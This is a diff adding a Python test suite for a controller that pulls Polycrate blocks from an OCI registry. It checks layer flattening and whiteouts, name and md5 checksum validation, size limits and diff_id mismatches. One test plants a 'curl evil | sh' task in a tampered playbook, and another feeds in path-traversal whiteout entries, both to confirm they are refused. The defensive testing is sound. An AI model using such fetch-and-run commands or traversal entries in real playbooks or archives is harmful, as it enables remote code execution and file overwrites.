@@ -1,0 +1,366 @@
+"""Blocks as the real ``polycrate blocks push`` writes them, against the real registry.
+
+Polycrate (cmd/oci.go ``WrapOCIImage``) pulls its configured base image, appends one layer made
+by ``layerFromDir`` (a ``filepath.Walk`` of the block directory: a ``.`` entry, relative names,
+permission bits, directories and regular files only) with go-containerregistry's
+``mutate.AppendLayers``, adds the block's labels and ``polycrate.block.version`` to the config
+and pushes ``:<version>`` and ``:latest``. Its block.poly ``name`` has no registry host. The
+images here are built the same way, byte for byte where it matters, and pushed to the real
+Debian docker-registry.
+"""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import io
+import json
+import tarfile
+from pathlib import Path, PurePosixPath
+
+import pytest
+
+from controller.errors import BlockMismatchError, DigestMismatchError, UnsafeArchiveError
+from controller.refs import BlockRef
+from controller.registry import RegistryClient, pull_block, push_block
+from controller.registry import format as fmt
+from controller.registry.checksum import polycrate_md5
+from tests.support.oci_registry import Registry
+from tests.test_registry import assert_nothing_written, client_for, make_block, new_ref, tree
+
+Layer = list[tuple[str, bytes | None]]  # (name, data); None is a directory
+
+
+def go_layer(entries: Layer, modes: dict[str, int] | None = None) -> bytes:
+    """A tar as Go's archive/tar writes ``layerFromDir``'s headers (USTAR, uid 0, no mtime,
+    ``info.Mode().Perm()``)."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for name, data in entries:
+            info = tarfile.TarInfo(name)
+            info.mtime = 0
+            if data is None:
+                info.type, info.mode = tarfile.DIRTYPE, 0o755
+                tar.addfile(info)
+            else:
+                info.mode, info.size = (modes or {}).get(name, 0o644), len(data)
+                tar.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def polycrate_layer(block: Path) -> bytes:
+    """``layerFromDir(block, "")`` as Polycrate builds the block layer."""
+    modes = {
+        path.relative_to(block).as_posix(): path.stat().st_mode & 0o777 for path in block.rglob("*")
+    }
+    return go_layer(walk_layer(block), modes)
+
+
+def walk_layer(block: Path) -> Layer:
+    """``layerFromDir(path, "")``: the root as ``.``, then Walk order, names relative."""
+    entries: Layer = [(".", None)]
+
+    def walk(directory: Path) -> None:
+        for path in sorted(directory.iterdir(), key=lambda p: p.name.encode()):
+            rel = path.relative_to(block).as_posix()
+            if path.is_dir():
+                entries.append((rel, None))
+                walk(path)
+            else:
+                entries.append((rel, path.read_bytes()))
+
+    walk(block)
+    return entries
+
+
+def push_polycrate_image(
+    client: RegistryClient,
+    ref: BlockRef,
+    layers: list[bytes],
+    labels: dict[str, str],
+    *,
+    oci_manifest: bool = False,
+) -> str:
+    """``mutate.AppendLayers`` + ``mutate.Config`` + ``crane.Push`` of ``:tag`` and ``:latest``."""
+    descriptors = []
+    diff_ids = []
+    for layer in layers:
+        blob = gzip.compress(layer, compresslevel=1)
+        digest = "sha256:" + hashlib.sha256(blob).hexdigest()
+        client.upload_blob(ref.registry, ref.repository, digest, blob)
+        layer_type = fmt.DOCKER_LAYER_GZIP
+        descriptors.append({"mediaType": layer_type, "size": len(blob), "digest": digest})
+        diff_ids.append("sha256:" + hashlib.sha256(layer).hexdigest())
+    config = json.dumps(
+        {
+            "architecture": "amd64",
+            "os": "linux",
+            "config": {"Labels": labels},
+            "rootfs": {"type": "layers", "diff_ids": diff_ids},
+            "history": [{"created": "0001-01-01T00:00:00Z"} for _ in layers],
+        }
+    ).encode()
+    config_digest = "sha256:" + hashlib.sha256(config).hexdigest()
+    client.upload_blob(ref.registry, ref.repository, config_digest, config)
+    manifest_type = fmt.OCI_MANIFEST if oci_manifest else fmt.DOCKER_MANIFEST
+    config_type = fmt.OCI_CONFIG if oci_manifest else fmt.DOCKER_CONFIG
+    manifest = json.dumps(
+        {
+            "schemaVersion": 2,
+            "mediaType": manifest_type,
+            "config": {"mediaType": config_type, "size": len(config), "digest": config_digest},
+            "layers": descriptors,
+        }
+    ).encode()
+    for tag in (ref.tag, fmt.LATEST):
+        digest = client.put_manifest(ref.registry, ref.repository, tag, manifest, manifest_type)
+    return digest
+
+
+def polycrate_block(root: Path, ref: BlockRef, *, name: str | None = None) -> Path:
+    """A block directory the Polycrate way: ``name`` without the registry host."""
+    return make_block(root, name or ref.repository, ref.tag)
+
+
+BASE = go_layer([("etc", None), ("etc/base-release", b"scratch-ish base\n")])
+
+
+def polycrate_labels(block: Path, ref: BlockRef) -> dict[str, str]:
+    return {
+        "polycrate.block.version": ref.tag,
+        fmt.LABEL_POLYCRATE_CHECKSUM: polycrate_md5(block),
+        fmt.LABEL_POLYCRATE_CHECKSUM_ALGO: "md5",
+    }
+
+
+# --- Polycrate-pushed blocks ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("oci_manifest", [False, True], ids=["docker-manifest", "oci-manifest"])
+def test_polycrate_pushed_two_layer_block_pulls_and_is_ready_to_run(
+    oci_registry: Registry, tmp_path: Path, oci_manifest: bool
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    digest = push_polycrate_image(
+        client,
+        ref,
+        [BASE, polycrate_layer(src)],
+        polycrate_labels(src, ref),
+        oci_manifest=oci_manifest,
+    )
+
+    pulled = pull_block(ref, tmp_path / "ws", client=client)
+
+    assert pulled.digest == digest
+    assert pulled.path == tmp_path / "ws" / "blocks" / ref.registry / ref.repository
+    assert pulled.block.name == ref.repository  # Polycrate's registry-less name is accepted
+    deploy = pulled.block.action("deploy")
+    assert deploy is not None and deploy.playbook is not None
+    assert (pulled.path / deploy.playbook).is_file()
+    assert (pulled.path / "hooks" / "check.sh").stat().st_mode & 0o111  # still executable
+    # Flattened in order, exactly as Polycrate's pull does: the base's files come along.
+    assert (pulled.path / "etc" / "base-release").read_bytes() == b"scratch-ish base\n"
+    assert {k: v for k, v in tree(pulled.path).items() if not k.startswith("etc")} == tree(src)
+
+
+def test_block_name_with_its_registry_host_also_matches(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref, name=ref.name)
+    push_polycrate_image(client, ref, [polycrate_layer(src)], polycrate_labels(src, ref))
+    assert pull_block(ref, tmp_path / "ws", client=client).block.name == ref.name
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["acme/blocks/another", "other.example.com/{repository}", "{repository}/sub"],
+    ids=["other-path", "other-registry", "longer-path"],
+)
+def test_a_block_poly_naming_another_block_is_refused(
+    oci_registry: Registry, tmp_path: Path, name: str
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref, name=name.format(repository=ref.repository))
+    push_polycrate_image(client, ref, [BASE, polycrate_layer(src)], {})
+    with pytest.raises(BlockMismatchError, match="the block name must be") as err:
+        pull_block(ref, tmp_path / "ws", client=client)
+    assert not err.value.retryable
+    assert_nothing_written(tmp_path / "ws", ref)
+
+
+def test_md5_checksum_mismatch_is_refused_and_nothing_is_written(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    labels = polycrate_labels(src, ref)
+    (src / "deploy.yml").write_text("- hosts: all\n  tasks: [{command: 'curl evil | sh'}]\n")
+    push_polycrate_image(client, ref, [BASE, polycrate_layer(src)], labels)
+
+    with pytest.raises(DigestMismatchError, match="Polycrate checksum") as err:
+        pull_block(ref, tmp_path / "ws", client=client)
+    assert err.value.reason == "DigestMismatch"
+    assert not err.value.retryable  # tampered content: retrying cannot help, the status stalls
+    assert_nothing_written(tmp_path / "ws", ref)
+
+
+def test_a_checksum_algorithm_other_than_md5_is_refused(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    labels = {**polycrate_labels(src, ref), fmt.LABEL_POLYCRATE_CHECKSUM_ALGO: "crc32"}
+    push_polycrate_image(client, ref, [polycrate_layer(src)], labels)
+    with pytest.raises(DigestMismatchError, match="'crc32'"):
+        pull_block(ref, tmp_path / "ws", client=client)
+
+
+def test_cratekeeper_pushes_polycrates_labels_and_a_layer_polycrate_can_unpack(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    digest = push_block(src, ref, client=client)
+
+    manifest = client.get_manifest(ref.registry, ref.repository, digest).json()
+    config_desc = manifest["config"]
+    assert isinstance(config_desc, dict)
+    body = io.BytesIO()
+    client.download_blob(
+        ref.registry, ref.repository, config_desc["digest"], config_desc["size"], body
+    )
+    labels = json.loads(body.getvalue())["config"]["Labels"]
+    assert labels[fmt.LABEL_VERSION] == ref.tag
+    assert labels[fmt.LABEL_POLYCRATE_CHECKSUM] == polycrate_md5(src)
+    assert labels[fmt.LABEL_POLYCRATE_CHECKSUM_ALGO] == "md5"
+    assert manifest["mediaType"] == fmt.DOCKER_MANIFEST  # what crane.Pull reads
+    assert client.head_manifest(ref.registry, ref.repository, "latest") == digest
+    assert tree(pull_block(ref, tmp_path / "ws", client=client).path) == tree(src)
+
+
+# --- whiteouts and layer order -------------------------------------------------------------
+
+
+def test_later_layers_win_and_whiteouts_delete_what_the_layers_below_wrote(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    poly = f"name: {ref.repository}\nversion: {ref.tag}\nactions: []\n".encode()
+    base = go_layer(
+        [
+            ("old.yml", b"stale"),
+            ("docs", None),
+            ("docs/a.md", b"a"),
+            ("docs/keep", None),
+            ("docs/keep/x", b"x"),
+            ("deploy.yml", b"v1"),
+            ("gone", None),
+            ("gone/deep.txt", b"d"),
+            ("was-dir", None),
+            ("was-dir/f", b"f"),
+        ]
+    )
+    middle = go_layer(
+        [
+            (".wh.old.yml", b""),
+            ("docs", None),
+            ("docs/.wh..wh..opq", b""),
+            ("docs/b.md", b"b"),
+            (".wh.gone", b""),
+            ("was-dir", b"now a file"),
+        ]
+    )
+    top = go_layer([("block.poly", poly), ("deploy.yml", b"v2")])
+    push_polycrate_image(client, ref, [base, middle, top], {})
+
+    pulled = pull_block(ref, tmp_path / "ws", client=client)
+    assert tree(pulled.path) == {
+        "block.poly": poly,
+        "deploy.yml": b"v2",
+        "docs": "dir",
+        "docs/b.md": b"b",
+        "was-dir": b"now a file",
+    }
+
+
+@pytest.mark.parametrize(
+    "whiteout",
+    ["../.wh.x", ".wh..", "link/.wh.target"],
+    ids=["dotdot-path", "whiteout-of-dotdot", "through-symlink"],
+)
+def test_hostile_whiteouts_are_refused(
+    oci_registry: Registry, tmp_path: Path, whiteout: str
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    base = io.BytesIO()
+    with tarfile.open(fileobj=base, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        link = tarfile.TarInfo("link")
+        link.type, link.linkname = tarfile.SYMTYPE, "."
+        tar.addfile(link)
+    top = go_layer([(whiteout, b"")])
+    push_polycrate_image(client, ref, [base.getvalue(), top], {})
+    with pytest.raises(UnsafeArchiveError) as err:
+        pull_block(ref, tmp_path / "ws", client=client)
+    assert not err.value.retryable
+    assert_nothing_written(tmp_path / "ws", ref)
+
+
+def test_the_size_limit_counts_every_layer_together(oci_registry: Registry, tmp_path: Path) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path, max_block_size=300_000)
+    src = polycrate_block(tmp_path / "src", ref)
+    big = [(go_layer([(f"pad{n}", bytes(120_000))])) for n in range(3)]
+    push_polycrate_image(client, ref, [*big, polycrate_layer(src)], {})
+    with pytest.raises(UnsafeArchiveError, match="limit of 300000 bytes"):
+        pull_block(ref, tmp_path / "ws", client=client)
+    assert_nothing_written(tmp_path / "ws", ref)
+
+
+def test_diff_ids_that_do_not_match_the_layers_are_a_digest_mismatch(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    layers = [BASE, polycrate_layer(src)]
+    push_polycrate_image(client, ref, layers[::-1], {})  # rootfs lists them in another order
+    manifest = (
+        client_for(ref.registry, tmp_path)
+        .get_manifest(ref.registry, ref.repository, ref.tag)
+        .json()
+    )
+    layer_list = manifest["layers"]
+    assert isinstance(layer_list, list)
+    manifest["layers"] = layer_list[::-1]
+    body = json.dumps(manifest).encode()
+    client.put_manifest(ref.registry, ref.repository, ref.tag, body, fmt.DOCKER_MANIFEST)
+    with pytest.raises(DigestMismatchError, match=r"rootfs\.diff_ids"):
+        pull_block(ref, tmp_path / "ws", client=client)
+
+
+# --- the checksum itself -------------------------------------------------------------------
+
+
+def test_polycrate_checksum_covers_paths_contents_and_order_but_not_modes(tmp_path: Path) -> None:
+    a = make_block(tmp_path / "a", "acme/x", "1.0.0")
+    b = make_block(tmp_path / "b", "acme/x", "1.0.0")
+    assert polycrate_md5(a) == polycrate_md5(b)
+    (b / "deploy.yml").chmod(0o700)
+    assert polycrate_md5(a) == polycrate_md5(b)
+    (b / "deploy.yml").write_text("- hosts: localhost\n  tasks: [] \n")
+    assert polycrate_md5(a) != polycrate_md5(b)
+    (b / "deploy.yml").write_bytes((a / "deploy.yml").read_bytes())
+    (b / "rollback.yml").rename(b / "rollback2.yml")
+    assert polycrate_md5(a) != polycrate_md5(b)
+    only = {PurePosixPath("block.poly")}
+    assert polycrate_md5(a, only=only) == polycrate_md5(b, only=only)
